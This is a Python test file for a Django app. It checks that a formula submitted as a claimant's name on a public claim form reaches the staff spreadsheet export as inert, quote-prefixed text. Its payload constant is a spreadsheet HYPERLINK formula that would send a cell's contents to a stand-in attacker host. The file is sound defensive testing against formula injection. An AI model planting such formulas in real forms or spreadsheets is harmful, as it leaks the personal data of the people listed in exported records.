"""A formula planted through the public claim form reaches staff's export as inert text."""

import io

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from gonghui.wishes.selectors import EXPORT_HEADERS
from gonghui.wishes.tests.factories import make_wish
from gonghui.wishes.workflow import Status

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'


@pytest.fixture(autouse=True)
def _clear_rate_limits():
    cache.clear()
    yield
    cache.clear()


@pytest.mark.parametrize("unmasked", [False, True])
def test_claimant_name_formula_is_exported_as_text(fed, client, client_for, unmasked):
    wish = make_wish(fed.grassroots, Status.PUBLISHED)
    claim = {"kind": "public", "name": PAYLOAD, "phone": "13700001111"}
    assert client.post(f"/public/wishes/{wish.pk}/", claim).status_code == 302

    staff = fed.officer if unmasked else fed.province_admin
    url = "/wishes/export/?unmasked=1" if unmasked else "/wishes/export/"
    response = client_for(staff).get(url)
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in ws[1]]
    assert header == EXPORT_HEADERS
    cell = ws.cell(row=2, column=header.index("认领人") + 1)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    assert cell.value.startswith("=")
    if unmasked:
        assert cell.value == PAYLOAD
